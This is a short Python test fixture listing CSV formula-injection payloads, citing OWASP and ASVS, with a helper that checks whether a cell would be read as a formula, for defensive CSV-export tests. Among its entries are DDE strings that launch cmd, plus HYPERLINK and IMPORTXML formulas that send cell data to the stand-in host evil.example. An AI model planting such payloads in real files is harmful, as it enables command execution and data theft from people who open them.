"""Formula-injection payloads (OWASP "CSV Injection", and the variants its advice and ASVS
5.0 V1.2.10 name: a leading tab, carriage return or NUL, and a formula after leading
spaces), for the CSV tests."""
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&B1,\"Error: click to see\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\rplain after a carriage return",
    " =1+1",
    "   +1+1",
    " \t @SUM(1,1)",
    "\n=1+1",
    "\r\n-1+1",
    "\x00=1+1",
    "\x00plain after a NUL",
]


def runs_as_formula(cell):
    """Whether a spreadsheet would read `cell` as a formula (or as one after trimming)."""
    return cell[:1] in ("\t", "\r", "\x00") or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")
